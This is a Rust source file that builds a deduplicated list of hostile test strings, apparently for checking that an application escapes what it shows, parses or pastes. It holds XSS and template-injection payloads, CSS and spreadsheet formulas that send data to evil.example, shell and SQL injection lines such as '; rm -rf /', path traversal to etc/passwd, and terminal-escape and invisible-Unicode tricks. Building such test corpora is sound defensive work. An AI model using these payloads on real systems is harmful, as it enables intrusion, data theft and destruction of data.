//! Texts that an attacker would like to see shown, matched, parsed or pasted: what a file, a host, a user or a typed word may
//! be called (SEC-30, SEC-33, SEC-35). Made by combining what opens a hole with what would climb through it.

#![allow(dead_code, reason = "each user takes what it needs")]

use std::collections::BTreeSet;

/// Characters that hide, reorder or forge what a reader sees: Unicode's ignorable ones, and the marks that turn lines over.
pub const HIDDEN: [char; 40] = [
    '\u{ad}',
    '\u{34f}',
    '\u{61c}',
    '\u{115f}',
    '\u{1160}',
    '\u{17b4}',
    '\u{180b}',
    '\u{180e}',
    '\u{200b}',
    '\u{200c}',
    '\u{200d}',
    '\u{200e}',
    '\u{200f}',
    '\u{2028}',
    '\u{2029}',
    '\u{202a}',
    '\u{202b}',
    '\u{202c}',
    '\u{202d}',
    '\u{202e}',
    '\u{2060}',
    '\u{2061}',
    '\u{2066}',
    '\u{2067}',
    '\u{2068}',
    '\u{2069}',
    '\u{206a}',
    '\u{206f}',
    '\u{3164}',
    '\u{fe00}',
    '\u{fe0f}',
    '\u{feff}',
    '\u{ffa0}',
    '\u{fff9}',
    '\u{fffb}',
    '\u{1bca0}',
    '\u{1d173}',
    '\u{e0001}',
    '\u{e0041}',
    '\u{e0100}',
];

/// Several hundred texts, none twice.
pub fn all() -> Vec<String> {
    let families: [fn() -> Vec<String>; 14] = [
        scripts, handlers, pictures, attributes, entities, templates, styles, addresses, invisible, terminals, tables,
        lines, machines, unicode,
    ];
    let mut seen = BTreeSet::new();
    families.iter().flat_map(|family| family()).chain(long()).filter(|text| seen.insert(text.clone())).collect()
}

/// Every way in, with every body.
fn each(ways: &[&str], bodies: &[&str]) -> Vec<String> {
    ways.iter().flat_map(|way| bodies.iter().map(move |body| way.replace('☠', body))).collect()
}

fn scripts() -> Vec<String> {
    let ways = [
        "☠",
        "\">☠",
        "'>☠",
        "-->☠",
        "]]>☠",
        "</title>☠",
        "</textarea>☠",
        "</bdi></td></tr></table>☠",
        "</script>☠",
        "<!--☠",
    ];
    each(
        &ways,
        &[
            "<script>alert(1)</script>",
            "<ScRiPt src=//evil.example/x.js></sCrIpT>",
            "<script\n>alert(1)</script\t>",
            "<script/x>alert(1)//",
            "<<script>alert(1);//<</script>",
        ],
    )
}

fn handlers() -> Vec<String> {
    let elements =
        ["img src=x", "body", "video src=x", "details open", "input autofocus", "iframe", "a href=#", "form"];
    let handlers = ["onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onpointerenter"];
    let quotes = ["\"", "'", ""];
    let mut made = Vec::new();
    for (n, element) in elements.iter().enumerate() {
        for (m, handler) in handlers.iter().enumerate() {
            let quote = quotes[(n + m) % quotes.len()];
            made.push(format!("<{element} {handler}={quote}alert(1){quote}>"));
        }
    }
    made
}

fn pictures() -> Vec<String> {
    each(
        &["☠", "\"/>☠"],
        &[
            "<svg/onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
            "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
            "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<math href=javascript:alert(1)>x</math>",
            "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)/>#x'/></svg>",
        ],
    )
}

fn attributes() -> Vec<String> {
    // Ours as well: a name that takes over a form of the page needs no script.
    each(
        &["\" ☠ x=\"", "' ☠ x='", "` ☠ x=`", "x ☠ ", "\\\" ☠ //"],
        &[
            "onclick=alert(1)",
            "style=position:fixed;inset:0",
            "autofocus onfocus=alert(1)",
            "formaction=https://evil.example/",
            "href=javascript:alert(1)",
            "srcdoc=<script>alert(1)</script>",
            "id=queue data-url=//evil.example/",
            "data-quiet data-confirm=yes",
        ],
    )
}

fn entities() -> Vec<String> {
    [
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;img src=x onerror=alert(1)&#62;",
        "&#x3c;b&#x3e;",
        "&amp;lt;b&amp;gt;",
        "&quot; onclick=alert(1)",
        "java&NewLine;script&colon;alert(1)",
        "&lt",
        "&",
        "&;",
        "&#0;",
        "&#xD800;",
        "&nbsp;&shy;",
    ]
    .map(String::from)
    .to_vec()
}

fn templates() -> Vec<String> {
    let ways = [
        "{{☠}}",
        "${☠}",
        "#{☠}",
        "<%= ☠ %>",
        "{% ☠ %}",
        "[[☠]]",
        "*{☠}",
        "@(☠)",
        "<?php ☠ ?>",
        "{{{☠}}}",
        "$(☠)",
        "`☠`",
    ];
    each(&ways, &["7*7", "self", "constructor.constructor('alert(1)')()"])
}

fn styles() -> Vec<String> {
    each(
        &["☠", "</style>☠", "\" style=\"☠"],
        &[
            "<style>*{display:none}</style>",
            "background:url(https://evil.example/?x)",
            "@import '//evil.example/x.css';",
            "</style><style>body:has([value^=a]){background:url(//evil.example/a)}",
            "width:expression(alert(1))",
        ],
    )
}

fn addresses() -> Vec<String> {
    each(
        &["☠", "<a href=\"☠\">x</a>", "[x](☠)"],
        &[
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            "java\tscript:alert(1)",
            "\u{1}javascript:alert(1)",
            "data:text/html,<script>alert(1)</script>",
            "vbscript:msgbox(1)",
            "file:///etc/passwd",
            "//evil.example/",
            "\\\\evil.example\\share\\x",
            "https://soc.example.jp@evil.example/",
            "blob:https://evil.example/1",
        ],
    )
}

fn invisible() -> Vec<String> {
    let controls = (0..0x20).chain(0x7f..0xa0).filter_map(char::from_u32).filter(|c| !"\n\r".contains(*c));
    let mut made: Vec<String> = HIDDEN.into_iter().chain(controls).map(|c| format!("invoice{c}fdp.exe")).collect();
    made.push("\u{202e}cod.<b>\u{202c}\u{2066}x\u{2069}".into());
    made
}

fn terminals() -> Vec<String> {
    [
        "\u{1b}[2J\u{1b}[H",
        "\u{1b}[31mred",
        "\u{1b}]8;;https://evil.example\u{7}link\u{1b}]8;;\u{7}",
        "\u{1b}]52;c;ZXZpbA==\u{7}",
        "\u{9b}31mred",
        "\u{8}\u{8}\u{8}ok",
    ]
    .map(|text| format!("x{text}"))
    .to_vec()
}

fn tables() -> Vec<String> {
    each(
        &["=☠", "+☠", "-☠", "@☠", "\t=☠", "\r=☠", "\u{0}=☠", "＝☠", "＋☠", "－☠", "＠☠", "\"=☠\"", ",=☠", ";=☠"],
        &["cmd|' /C calc'!A0", "HYPERLINK(\"https://evil.example/?\"&A1,\"open\")"],
    )
}

fn lines() -> Vec<String> {
    [
        "a\r\nSet-Cookie: yagura=x",
        "a\r\n\r\n<script>alert(1)</script>",
        "a\nBcc: x@evil.example",
        "a%0d%0aLocation: //evil.example",
        "one\ntwo\n\nthree",
        "data: x\n\nevent: changed\ndata: *",
        "a\u{85}b",
        "a\u{b}b\u{c}c",
        "2026-11-24 INFO signed in\nfake=1",
    ]
    .map(String::from)
    .to_vec()
}

/// What some machine behind us might take for a command: a database, a file system, a shell, a chat.
fn machines() -> Vec<String> {
    let sql = [
        "' OR '1'='1",
        "'; DROP TABLE event; --",
        "\" OR 1=1 --",
        "1; ATTACH DATABASE '/x' AS y",
        "%' ESCAPE '",
        "$1",
        "?",
        "x' UNION SELECT body FROM incident --",
        "\\'; --",
        "0x27204f52",
    ];
    let shell = ["$(reboot)", "; rm -rf /", "| calc", "&& whoami", "%COMSPEC%", "\"; exit", "-rf", "--help"];
    let chat =
        ["<!channel>", "<@U012345>", "<https://evil.example|bank>", "*bold*_it_~x~", "```code", "@everyone", ":skull:"];
    let other = [
        "%s%n%x",
        "{0}{}",
        "%00",
        "[]",
        "{\"$gt\":\"\"}",
        "null",
        "undefined",
        "NaN",
        "-1",
        "1e309",
        "true",
        "*",
        "(",
        "\\",
    ];
    let climbs = each(
        &["../☠", "..\\☠", "%2e%2e/☠", "..;/☠", "....//☠", "..%c0%af☠", "/☠", "C:\\☠"],
        &["etc/passwd", "Windows\\win.ini", "NUL"],
    );
    [&sql[..], &shell, &chat, &other].concat().into_iter().map(String::from).chain(climbs).collect()
}

fn unicode() -> Vec<String> {
    let mut made: Vec<String> = [
        "＜script＞alert(1)＜/script＞",
        "‹script›alert(1)‹/script›",
        "ʺ onclick=alert(1)",
        "＂ onclick=alert(1)",
        "ⓢcript",
        "ſcript <ſcript>",
        "раураl.example",
        "admin\u{307}",
        "\u{fffd}<b>",
        "\u{fdd0}\u{fffe}x",
        "👩\u{200d}💻<b>",
        "ﷺﷺﷺ",
        "İstanbul<i>",
        "あ<img>い",
        "か\u{3099}<b>",
    ]
    .map(String::from)
    .to_vec();
    made.push(format!("Z{}", "\u{335}\u{489}\u{20d0}".repeat(60)));
    made
}

fn long() -> Vec<String> {
    vec![
        "<".repeat(6000),
        "<b>".repeat(3000),
        "\"".repeat(5000),
        "&amp;".repeat(2000),
        "長".repeat(6000),
        "a".repeat(100_000),
        format!("{}<script>alert(1)</script>", "x".repeat(4080)),
        "\u{202e}".repeat(3000),
        "line\n".repeat(800),
    ]
}
